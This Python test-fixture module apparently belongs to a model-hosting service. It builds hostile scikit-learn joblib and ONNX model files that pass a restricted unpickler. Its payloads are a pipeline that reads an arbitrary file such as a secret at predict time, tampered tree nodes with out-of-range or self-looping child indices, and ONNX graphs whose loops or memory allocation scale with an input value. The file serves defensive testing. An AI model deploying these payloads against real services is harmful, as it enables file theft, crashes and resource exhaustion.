"""Hostile model files built only from names the restricted unpickler allows.

Nothing here smuggles a forbidden global: every object is a scikit-learn
estimator, a numpy array or a plain container, so ``load_bytes`` accepts each
file. The harm is in the *state*: a vectorizer told to open the file named by a
predicted label, tree node arrays whose child indices point out of range or back
to themselves, and ONNX graphs whose work grows with an input value. Each
builder keeps ordinary rows (iris-like values, and the upload smoke rows 0, 1
and -1) harmless; only the hostile row named in ``TRIGGERS`` misbehaves.
"""

from __future__ import annotations

import io
import string

import joblib
import numpy as np
import onnx
from onnx import TensorProto, helper
from sklearn.compose import ColumnTransformer
from sklearn.datasets import load_iris
from sklearn.ensemble import HistGradientBoostingClassifier, StackingClassifier
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LinearRegression, LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.tree import DecisionTreeClassifier
from sklearn.tree._tree import Tree

NORMAL_ROW = [5.1, 3.5, 1.4, 0.2]  # an iris setosa flower
EXTREME_ROW = [1e6, 1e6, 1e6, 1e6]  # reaches the tampered tree nodes
GUARD_THRESHOLD = 1000.0  # trees: the bad branch is taken only when x0 > this
ONNX_OFFSET = 10.0  # ONNX: the work is proportional to max(0, max(x0) - this)
LOOP_TRIPS_PER_UNIT = 1e6  # Loop iterations per unit of x0 above ONNX_OFFSET
FLOATS_PER_UNIT = 1e8  # float32 elements (400 MB) per unit of x0 above ONNX_OFFSET
BAD_TREE_CHILD = 2**40  # Tree node index far past the end of the nodes array
BAD_PREDICTOR_CHILD = 2**32 - 1  # TreePredictor children are uint32

# builder → (file format, a row that predicts fine, the row that misbehaves).
TRIGGERS = {
    "file_reading_stack": ("joblib", NORMAL_ROW, NORMAL_ROW),  # every row reads
    "tree_out_of_range_child": ("joblib", NORMAL_ROW, EXTREME_ROW),
    "tree_self_loop": ("joblib", NORMAL_ROW, EXTREME_ROW),
    "hist_gradient_boosting_bad_node": ("joblib", NORMAL_ROW, EXTREME_ROW),
    "onnx_loop": ("onnx", [0.0, 0.0, 0.0, 0.0], EXTREME_ROW),
    "onnx_constant_of_shape": ("onnx", [0.0, 0.0, 0.0, 0.0], [20.0, 0.0, 0.0, 0.0]),
}


def _joblib_bytes(estimator) -> bytes:
    """The bytes ``joblib.dump`` writes for ``estimator`` (no compression)."""
    buffer = io.BytesIO()
    joblib.dump(estimator, buffer)
    return buffer.getvalue()


def file_reading_stack(secret_path: str) -> tuple[bytes, list[float]]:
    """Joblib Pipeline whose predict opens ``secret_path`` and returns its length."""
    X, y = load_iris(return_X_y=True)
    # Step 1: a StackingClassifier used as a transformer; its base tree's classes_
    # are replaced by the path, so transform() "predicts" the path for every row.
    stack = StackingClassifier(
        [("tree", DecisionTreeClassifier(max_depth=2, random_state=0))],
        final_estimator=LogisticRegression(),
        stack_method="predict",
        cv=2,
    ).fit(X, y)
    stack.estimators_[0].classes_ = np.array([secret_path] * 3, dtype=object)
    stack.named_estimators_ = {}  # a Bunch, which the policy refuses; unused here
    # Step 2: a character counter over column 0, fitted on text, then switched to
    # input="filename" so that transform() opens each document as a path.
    chars = list(string.printable)
    vectorizer = CountVectorizer(analyzer="char", lowercase=False, vocabulary=chars)
    columns = ColumnTransformer([("read", vectorizer, 0)])
    documents = np.array([[c] for c in chars], dtype=object)
    counts = columns.fit(documents).transform(documents)
    columns.transformers_[0][1].input = "filename"
    # Step 3: sum the counts: the prediction is the file's printable-char count.
    total = LinearRegression().fit(counts, np.ones(len(chars)))
    total.coef_ = np.ones_like(total.coef_)
    total.intercept_ = 0.0
    pipeline = Pipeline([("labels", stack), ("files", columns), ("size", total)])
    return _joblib_bytes(pipeline), list(NORMAL_ROW)


def _fitted_iris_tree() -> DecisionTreeClassifier:
    """A depth-3 DecisionTreeClassifier fitted on iris."""
    X, y = load_iris(return_X_y=True)
    return DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)


def _guarded_tree(bad_child) -> tuple[bytes, list[float], list[float]]:
    """The leaf EXTREME_ROW reaches becomes a split on x0: the right child is bad."""
    tree = _fitted_iris_tree()
    state = tree.tree_.__getstate__()
    nodes, values = state["nodes"].copy(), state["values"].copy()
    leaf = int(tree.apply(np.array([EXTREME_ROW]))[0])
    new_leaf = len(nodes)
    nodes = np.concatenate([nodes, nodes[leaf : leaf + 1]])  # copy of the leaf
    values = np.concatenate([values, values[leaf : leaf + 1]])
    nodes[leaf]["feature"] = 0
    nodes[leaf]["threshold"] = GUARD_THRESHOLD
    nodes[leaf]["missing_go_to_left"] = 1
    nodes[leaf]["left_child"] = new_leaf
    nodes[leaf]["right_child"] = leaf if bad_child == "self" else bad_child
    state.update(nodes=nodes, values=values, node_count=len(nodes))
    # A fresh Tree, as unpickling makes: __setstate__ on the fitted one would not
    # grow its buffers. It checks dtypes and shapes, never the child indices.
    fresh = Tree(tree.n_features_in_, tree.tree_.n_classes, tree.n_outputs_)
    fresh.__setstate__(state)
    tree.tree_ = fresh
    return _joblib_bytes(tree), list(NORMAL_ROW), list(EXTREME_ROW)


def tree_out_of_range_child() -> tuple[bytes, list[float], list[float]]:
    """Joblib DecisionTreeClassifier: x0 > 1000 follows a child index of 2**40."""
    return _guarded_tree(BAD_TREE_CHILD)


def tree_self_loop() -> tuple[bytes, list[float], list[float]]:
    """Joblib DecisionTreeClassifier: x0 > 1000 reaches a node that is its own child."""
    return _guarded_tree("self")


def hist_gradient_boosting_bad_node() -> tuple[bytes, list[float], list[float]]:
    """Joblib HistGradientBoostingClassifier: x0 > 1000 follows child 2**32 - 1."""
    X, y = load_iris(return_X_y=True)
    model = HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y)
    predictor = model._predictors[0][0]
    nodes = predictor.nodes
    leaf = 0
    while not nodes[leaf]["is_leaf"]:  # the path EXTREME_ROW takes (no NaNs)
        node = nodes[leaf]
        go_left = EXTREME_ROW[node["feature_idx"]] <= node["num_threshold"]
        leaf = int(node["left"] if go_left else node["right"])
    new_leaf = len(nodes)
    nodes = np.concatenate([nodes, nodes[leaf : leaf + 1]])
    nodes[leaf]["is_leaf"] = 0
    nodes[leaf]["feature_idx"] = 0
    nodes[leaf]["num_threshold"] = GUARD_THRESHOLD
    nodes[leaf]["missing_go_to_left"] = 1
    nodes[leaf]["is_categorical"] = 0
    nodes[leaf]["left"] = new_leaf
    nodes[leaf]["right"] = BAD_PREDICTOR_CHILD
    predictor.nodes = nodes
    return _joblib_bytes(model), list(NORMAL_ROW), list(EXTREME_ROW)


def _scalar(name: str, value: float, dtype=TensorProto.FLOAT):
    """A named 0-d ONNX tensor holding ``value``."""
    return helper.make_tensor(name, dtype, [], [value])


def _onnx_model(nodes, initializers) -> bytes:
    """Wrap ``nodes`` (which must produce scalar ``work`` from scalar ``x0``)."""
    head = [
        helper.make_node("Gather", ["X", "zero_index"], ["column"], axis=1),
        helper.make_node("ReduceMax", ["column"], ["x0"], keepdims=0),
        helper.make_node("Sub", ["x0", "offset"], ["shifted"]),
        helper.make_node("Relu", ["shifted"], ["excess"]),
    ]
    tail = [
        helper.make_node("Mul", ["column", "zero_float"], ["zeros"]),
        helper.make_node("Add", ["zeros", "work"], ["variable"]),
    ]
    graph = helper.make_graph(
        head + list(nodes) + tail,
        "hostile",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 4])],
        [helper.make_tensor_value_info("variable", TensorProto.FLOAT, [None])],
        [
            _scalar("zero_index", 0, TensorProto.INT64),
            _scalar("zero_float", 0.0),
            _scalar("offset", ONNX_OFFSET),
            *initializers,
        ],
    )
    model = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid("", 17)],
        producer_name="modeldock-tests",
    )
    model.ir_version = 8
    onnx.checker.check_model(model, full_check=True)
    return model.SerializeToString()


def onnx_loop(trip_from_input: bool = True) -> bytes:
    """ONNX regression graph: a Loop of (max(x0) - 10) * 1e6 trips, else 2**62."""
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["count_in", "one"], ["count_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("iteration", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("count_in", TensorProto.FLOAT, []),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("count_out", TensorProto.FLOAT, []),
        ],
        [_scalar("one", 1.0)],
    )
    if trip_from_input:
        trips = [
            helper.make_node("Mul", ["excess", "per_unit"], ["scaled"]),
            helper.make_node("Cast", ["scaled"], ["trips"], to=TensorProto.INT64),
        ]
        constants = [_scalar("per_unit", LOOP_TRIPS_PER_UNIT)]
    else:
        trips = []
        constants = [_scalar("trips", 2**62, TensorProto.INT64)]
    loop = helper.make_node(
        "Loop", ["trips", "keep_going", "zero_float"], ["work"], body=body
    )
    constants.append(helper.make_tensor("keep_going", TensorProto.BOOL, [], [True]))
    return _onnx_model([*trips, loop], constants)


def onnx_constant_of_shape() -> bytes:
    """ONNX regression graph: ConstantOfShape of (max(x0) - 10) * 1e8 float32s."""
    nodes = [
        helper.make_node("Mul", ["excess", "per_unit"], ["scaled"]),
        helper.make_node("Cast", ["scaled"], ["length"], to=TensorProto.INT64),
        helper.make_node("Unsqueeze", ["length", "axis_zero"], ["shape"]),
        helper.make_node(
            "ConstantOfShape",
            ["shape"],
            ["block"],
            value=helper.make_tensor("fill", TensorProto.FLOAT, [1], [1.0]),
        ),
        helper.make_node("ReduceSum", ["block"], ["work"], keepdims=0),
    ]
    constants = [
        _scalar("per_unit", FLOATS_PER_UNIT),
        helper.make_tensor("axis_zero", TensorProto.INT64, [1], [0]),
    ]
    return _onnx_model(nodes, constants)
